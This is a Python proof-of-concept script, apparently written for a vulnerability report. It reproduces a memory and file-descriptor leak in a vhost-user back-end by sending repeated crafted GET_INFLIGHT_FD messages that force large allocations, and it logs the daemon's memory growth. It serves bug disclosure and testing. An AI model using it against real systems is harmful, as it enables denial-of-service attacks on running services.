#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""GET_INFLIGHT_FD: an allocation of the front-end's size per message, the
previous one leaked; accepted although VHOST_USER_PROTOCOL_F_INFLIGHT_SHMFD
was never offered.

vu_get_inflight_fd() computes
    mmap_size = vu_inflight_queue_size(queue_size) * num_queues;
from the message's u16 fields (up to 1 MiB * 65535 = 64 GiB), creates a
memfd of that size, maps it and memset()s it (every page made resident,
charged to the back-end), and stores it in dev->inflight_info without
unmapping or closing the one a previous GET_INFLIGHT_FD left there.  Only
the last one is released when the connection ends (vu_deinit).  Here 4
messages of 64 MiB each (the front-end closes the fds it receives at once):
the back-end's RSS grows by 256 MiB, and 192 MiB + 3 fds stay after the
front-end disconnects.

REPRO_QUEUES=1: one queue of 1 MiB per message (what QEMU 11.1.3 still takes
from a one-queue export).

usage: repro_inflight_alloc.py SOCKET QSD_PID
"""
import os
import struct
import time

from _common import args, say, vuattack as vu

sock, pid = args(2)
pid = int(pid)
N, QS = 4, 65535
NQ = int(os.environ.get("REPRO_QUEUES", "64"))   # 64 queues * 1 MiB each = 64 MiB per message
rss0, fds0 = vu.proc_rss(pid), vu.proc_fds(pid)
c = vu.Conn(sock, timeout=10)
c.negotiate()
say("offered protocol features %#x (bit 12 INFLIGHT_SHMFD: %s)" % (
    c.offered_protocol, bool(c.offered_protocol >> 12 & 1)))
for i in range(N):
    try:
        rp, fds = c.call(vu.GET_INFLIGHT_FD, struct.pack("<QQHHxxxx", 0, 0, NQ, QS))
    except (vu.Closed, vu.Timeout) as e:
        say("GET_INFLIGHT_FD %d -> %s: %s" % (i + 1, type(e).__name__, e))
        break
    size = struct.unpack("<Q", rp[:8])[0] if len(rp) >= 8 else 0
    for fd in fds:
        os.close(fd)
        c.received_fds.remove(fd)
    say("GET_INFLIGHT_FD num_queues=%d queue_size=%d -> mmap_size %d MiB, %d fd; QSD RSS "
        "%d MiB" % (NQ, QS, size >> 20, len(fds), vu.proc_rss(pid) >> 20))
c.close()
time.sleep(1)
say("after disconnect: QSD RSS %d -> %d MiB, fds %d -> %d" % (
    rss0 >> 20, vu.proc_rss(pid) >> 20, fds0, vu.proc_fds(pid)))
